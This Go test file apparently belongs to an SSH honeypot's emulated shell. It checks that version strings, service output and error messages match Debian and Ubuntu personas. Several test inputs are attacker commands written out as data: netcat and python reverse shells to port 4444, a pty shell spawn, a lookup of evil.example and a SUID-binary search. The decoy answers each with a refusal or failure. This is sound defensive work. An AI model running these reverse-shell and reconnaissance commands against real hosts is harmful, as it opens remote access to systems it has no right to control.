package shell

import (
	"strconv"
	"strings"
	"testing"
	"time"
)

func newPersonaTest(t *testing.T, osID, user string) *Shell {
	t.Helper()
	return newShell(Config{OS: osID, Seed: testSeed, Hostname: "web01", User: user}, func() time.Time { return testNow })
}

// TestProgsPersonaVersions checks that every version a program prints
// is the persona's: the SSH banner's release, the package list's
// versions, the distribution's names.
func TestProgsPersonaVersions(t *testing.T) {
	for _, tc := range []struct {
		os, line, out, err string
	}{
		{OSDebian12, "ssh -V", "", "OpenSSH_9.2p1 Debian-2+deb12u10, OpenSSL 3.0.20 7 Apr 2026\n"},
		{OSUbuntu2404, "ssh -V", "", "OpenSSH_9.6p1 Ubuntu-3ubuntu13.19, OpenSSL 3.0.13 30 Jan 2024\n"},
		{OSDebian12, "python3 -V", "Python 3.11.2\n", ""},
		{OSUbuntu2404, "python3 --version", "Python 3.12.3\n", ""},
		{OSDebian12, "python3 -c 'import sys; print(sys.version)'", "3.11.2 (main, May 12 2026, 05:17:27) [GCC 12.2.0]\n", ""},
		{OSUbuntu2404, "python3 -c 'import sys;print(sys.version_info)'", "sys.version_info(major=3, minor=12, micro=3, releaselevel='final', serial=0)\n", ""},
		{OSDebian12, "perl -v | head -2 | tail -1", "This is perl 5, version 36, subversion 0 (v5.36.0) built for x86_64-linux-gnu-thread-multi\n", ""},
		{OSUbuntu2404, "perl -v | grep version", "This is perl 5, version 38, subversion 2 (v5.38.2) built for x86_64-linux-gnu-thread-multi\n", ""},
		{OSDebian12, "sudo -V | head -1", "Sudo version 1.9.13p3\n", ""},
		{OSUbuntu2404, "sudo -V | head -1", "Sudo version 1.9.15p5\n", ""},
		{OSDebian12, "systemctl --version | head -1", "systemd 252 (252.39-1~deb12u2)\n", ""},
		{OSUbuntu2404, "systemctl --version | head -1", "systemd 255 (255.4-1ubuntu8.6)\n", ""},
		{OSDebian12, "lsb_release -a", "Distributor ID:\tDebian\nDescription:\tDebian GNU/Linux 12 (bookworm)\nRelease:\t12\nCodename:\tbookworm\n", ""},
		{OSUbuntu2404, "lsb_release -a", "Distributor ID:\tUbuntu\nDescription:\tUbuntu 24.04.4 LTS\nRelease:\t24.04\nCodename:\tnoble\n", ""},
		{OSUbuntu2404, "lsb_release -cs", "noble\n", ""},
		{OSUbuntu2404, "nc -v 10.0.0.1 4444 || echo refused", "refused\n", "nc: connect to 10.0.0.1 port 4444 (tcp) failed: Connection refused\n"},
		{OSUbuntu2404, "nc -e /bin/sh 10.0.0.1 4444 || true", "", "nc: invalid option -- 'e'\n" + ncOpenBSDUsage},
	} {
		t.Run(tc.os+" "+tc.line, func(t *testing.T) {
			out, errOut, st := run(t, newPersonaTest(t, tc.os, "root"), tc.line)
			if out != tc.out || errOut != tc.err || st != 0 {
				t.Fatalf("got %q %q %d, want %q %q 0", out, errOut, st, tc.out, tc.err)
			}
		})
	}
}

// TestSSHVersionMatchesBanner ties ssh -V to the SSH decoy's banner for
// the same persona, which carries the same release after "SSH-2.0-".
func TestSSHVersionMatchesBanner(t *testing.T) {
	banners := map[string]string{
		OSDebian12:   "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10",
		OSUbuntu2404: "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.19",
	}
	for osID, banner := range banners {
		sh := newPersonaTest(t, osID, "root")
		if got := "SSH-2.0-" + sh.sshRelease(); got != banner {
			t.Errorf("%s: ssh release %q, banner %q", osID, got, banner)
		}
	}
}

func TestProgsExact(t *testing.T) {
	for _, tc := range []struct {
		user, line, out, err string
		status               int
	}{
		{"root", "ssh", "", sshUsage92, 255},
		{"root", "ssh -p 2222 admin@10.0.0.5 id", "", "ssh: connect to host 10.0.0.5 port 2222: Connection refused\n", 255},
		{"root", "nc", "", "Cmd line: wrong\n", 1},
		{"root", "nc 10.1.2.3", "", "no port[s] to connect to\n", 1},
		{"root", "nc 10.1.2.3 4444 -e /bin/sh", "", "(UNKNOWN) [10.1.2.3] 4444 (?) : Connection refused\n", 1},
		{"root", "netcat evil.example 80", "", "evil.example: forward host lookup failed: Unknown host\n", 1},
		{"root", "nc -x", "", "nc: invalid option -- 'x'\nnc -h for help\n", 1},
		{"root", "python3 -c 'print(\"hello\")'", "hello\n", "", 0},
		{"root", "python3 -c 'print(6*7)'", "42\n", "", 0},
		{"root", "python3 -c 'import os; print(os.getuid())'", "0\n", "", 0},
		{"root", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "", "", 0},
		{"root", "python3 -c 'import requests'", "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nModuleNotFoundError: No module named 'requests'\n", 1},
		{"root", "python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.9.9.9\",4444))'", "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nConnectionRefusedError: [Errno 111] Connection refused\n", 1},
		{"root", "python3 -c 'print \"x\"'", "", "  File \"<string>\", line 1\n    print \"x\"\n    ^^^^^^^^^\nSyntaxError: Missing parentheses in call to 'print'. Did you mean print(...)?\n", 1},
		{"root", "python3 -c", "", "Argument expected for the -c option\n" + pythonUsage, 2},
		{"root", "python3 /tmp/x.py", "", "python3: can't open file '/tmp/x.py': [Errno 2] No such file or directory\n", 2},
		{"root", "python3 -m nosuch", "", "/usr/bin/python3: No module named nosuch\n", 1},
		{"root", "echo 'print(1+2)' | python3", "3\n", "", 0},
		{"root", "perl -e 'print \"a\\tb\\n\"'", "a\tb\n", "", 0},
		{"root", "perl -e 1", "", "", 0},
		{"root", "perl /nope.pl", "", "Can't open perl script \"/nope.pl\": No such file or directory\n", 2},
		{"root", "sudo -l", "Matching Defaults entries for root on web01:\n    env_reset, mail_badpass, secure_path=/usr/local/sbin\\:/usr/local/bin\\:/usr/sbin\\:/usr/bin\\:/sbin\\:/bin, use_pty\n\nUser root may run the following commands on web01:\n    (ALL : ALL) ALL\n", "", 0},
		{"debian", "sudo -l", "", "[sudo] password for debian: \nsudo: a password is required\n", 1},
		{"debian", "sudo -n id", "", "sudo: a password is required\n", 1},
		{"root", "sudo -u root whoami", "root\n", "", 0},
		{"root", "getent passwd root", "root:x:0:0:root:/root:/bin/bash\n", "", 0},
		{"root", "getent passwd 0", "root:x:0:0:root:/root:/bin/bash\n", "", 0},
		{"root", "getent passwd nosuch", "", "", 2},
		{"root", "getent hosts localhost", "127.0.0.1       localhost\n", "", 0},
		{"root", "getent nope", "Try `getent --help' or `getent --usage' for more information.\n", "Unknown database: nope\n", 1},
		{"debian", "getent shadow", "", "", 2},
		{"root", "timedatectl", "               Local time: Fri 2026-12-04 23:50:04 UTC\n           Universal time: Fri 2026-12-04 23:50:04 UTC\n                 RTC time: Fri 2026-12-04 23:50:04\n                Time zone: Etc/UTC (UTC, +0000)\nSystem clock synchronized: yes\n              NTP service: active\n          RTC in local TZ: no\n", "", 0},
		{"root", "journalctl", "-- No entries --\n", "", 0},
		{"debian", "journalctl -xe", "Hint: You are currently not seeing messages from other users and the system.\n      Users in groups 'adm', 'systemd-journal' can see all messages.\n      Pass -q to turn off this notice.\n-- No entries --\n", "", 0},
		{"root", "locale -a", "C\nC.utf8\nPOSIX\n", "", 0},
		{"root", "export LC_ALL=C; locale | tail -1", "LC_ALL=C\n", "", 0},
		{"debian", "mount /dev/sdb1 /mnt", "", "mount: /mnt: must be superuser to use mount.\n", 1},
		{"root", "mount /dev/sdb1 /mnt", "", "mount: /mnt: special device /dev/sdb1 does not exist.\n", 32},
		{"root", "systemctl status nope", "", "Unit nope.service could not be found.\n", 4},
		{"root", "systemctl is-active ssh", "active\n", "", 0},
		{"root", "systemctl is-active nope", "inactive\n", "", 3},
		{"root", "systemctl restart nope", "", "Failed to restart nope.service: Unit nope.service not found.\n", 5},
		{"root", "systemctl restart sshd", "", "", 0},
		{"debian", "systemctl stop ssh", "", "Failed to stop ssh.service: Interactive authentication required.\nSee system logs and 'systemctl status ssh.service' for details.\n", 4},
		{"root", "systemctl frob", "", "Unknown command verb frob.\n", 1},
		{"root", "service nope status", "", "nope: unrecognized service\n", 1},
		{"root", "service", "", "Usage: service < option > | --status-all | [ service_name [ command | --full-restart ] ]\n", 1},
		{"root", "service --status-all | grep ssh", " [ + ]  ssh\n", "", 0},
		{"debian", "service --status-all", "", "bash: line 1: service: command not found\n", 127},
		{"root", "basename", "", "basename: missing operand\nTry 'basename --help' for more information.\n", 1},
		{"root", "chroot", "", "chroot: missing operand\nTry 'chroot --help' for more information.\n", 125},
		{"root", "tar", "", "tar: You must specify one of the '-Acdtrux', '--delete' or '--test-label' options\nTry 'tar --help' or 'tar --usage' for more information.\n", 2},
		{"root", "tar xzf /tmp/a.tgz", "", "", 0},
		{"root", "arch", "x86_64\n", "", 0},
		{"debian", "groups", "debian cdrom floppy sudo audio dip video plugdev users netdev\n", "", 0},
		{"root", "find /etc -maxdepth 1 -name 'host*'", "/etc/hostname\n/etc/hosts\n", "", 0},
		{"root", "find /root/.ssh", "/root/.ssh\n/root/.ssh/authorized_keys\n", "", 0},
		{"root", "cd /root; find . -maxdepth 1 -type d", ".\n./.ssh\n", "", 0},
		{"root", "find /usr/bin -perm -4000 -name 's*'", "/usr/bin/su\n/usr/bin/sudo\n", "", 0},
		{"root", "find /usr/bin -perm -u=s -user root -name 'su*'", "/usr/bin/su\n/usr/bin/sudo\n", "", 0},
		{"root", "find /etc/passwd /nope", "/etc/passwd\n", "find: \u2018/nope\u2019: No such file or directory\n", 1},
		{"root", "find /etc -nametypo x", "", "find: unknown predicate `-nametypo'\n", 1},
		{"root", "find / -maxdepth", "", "find: missing argument to `-maxdepth'\n", 1},
		{"root", "find /etc/hostname -exec cat {} \\;", "web01\n", "", 0},
		{"debian", "find /root -name x", "", "find: \u2018/root\u2019: Permission denied\n", 1},
		{"root", "touch /tmp/zz; find /tmp -name zz -delete; ls /tmp/zz", "", "ls: cannot access '/tmp/zz': No such file or directory\n", 2},
	} {
		t.Run(tc.user+" "+tc.line, func(t *testing.T) {
			sh := newTest(t, tc.user)
			out, errOut, st := run(t, sh, tc.line)
			if out != tc.out || errOut != tc.err || st != tc.status {
				t.Fatalf("got %q %q %d, want %q %q %d", out, errOut, st, tc.out, tc.err, tc.status)
			}
		})
	}
}

func TestProgsHostValues(t *testing.T) {
	sh := newTest(t, "root")
	h := sh.host
	sshd := h.pidBase + 341

	out, _, _ := run(t, sh, "ss -tlnp")
	want := "State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\n" +
		"LISTEN 0      128          0.0.0.0:22        0.0.0.0:*    users:((\"sshd\",pid=" + strconv.Itoa(sshd) + ",fd=3))\n" +
		"LISTEN 0      128             [::]:22           [::]:*    users:((\"sshd\",pid=" + strconv.Itoa(sshd) + ",fd=4))\n"
	if out != want {
		t.Errorf("ss -tlnp:\n%s\nwant\n%s", out, want)
	}

	out, _, _ = run(t, sh, "lsblk")
	part := sh.rootDev()
	if !strings.Contains(out, "\u2514\u2500"+part+" ") || !strings.HasSuffix(out, " part /\n") {
		t.Errorf("lsblk misses root partition %s:\n%s", part, out)
	}

	out, _, _ = run(t, sh, "mount | grep ' / '")
	if out != "/dev/"+part+" on / type ext4 (rw,relatime,errors=remount-ro)\n" {
		t.Errorf("mount root line %q", out)
	}

	out, _, _ = run(t, sh, "systemctl status ssh")
	for _, s := range []string{
		"\u25cf ssh.service - OpenBSD Secure Shell server\n",
		"   Main PID: " + strconv.Itoa(sshd) + " (sshd)\n",
		"             \u2514\u2500" + strconv.Itoa(sshd) + " \"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups\"\n",
	} {
		if !strings.Contains(out, s) {
			t.Errorf("systemctl status ssh lacks %q:\n%s", s, out)
		}
	}

	out, _, _ = run(t, sh, "systemctl list-units | grep ifup")
	if !strings.Contains(out, "ifup@"+h.iface+".service") {
		t.Errorf("unit list lacks the host's interface %s: %q", h.iface, out)
	}

	// Exec runs lines as sshd's exec requests do; the REPL banner is for
	// a login shell on a terminal.
	sh.interactive = true
	var errb strings.Builder
	st := progPython(sh, &call{ctx: t.Context(), name: "python3", out: &errb, err: &errb})
	errOut := errb.String()
	if st != 0 || !strings.HasPrefix(errOut, "Python 3.11.2 (main,") || !strings.HasSuffix(errOut, "for more information.\n>>> \n") {
		t.Errorf("interactive python3: %q %d", errOut, st)
	}
}

func TestRelativeAgo(t *testing.T) {
	for _, tc := range []struct {
		d    time.Duration
		want string
	}{
		{30 * time.Second, "30s ago"},
		{90 * time.Second, "1min 30s ago"},
		{10 * time.Minute, "10min ago"},
		{2*time.Hour + 5*time.Minute, "2h 5min ago"},
		{7 * time.Hour, "7h ago"},
		{26 * time.Hour, "1 day 2h ago"},
		{3 * 24 * time.Hour, "3 days ago"},
		{8 * 24 * time.Hour, "1 week 1 day ago"},
		{40 * 24 * time.Hour, "1 month 9 days ago"},
	} {
		if got := relativeAgo(tc.d); got != tc.want {
			t.Errorf("relativeAgo(%s) = %q, want %q", tc.d, got, tc.want)
		}
	}
}
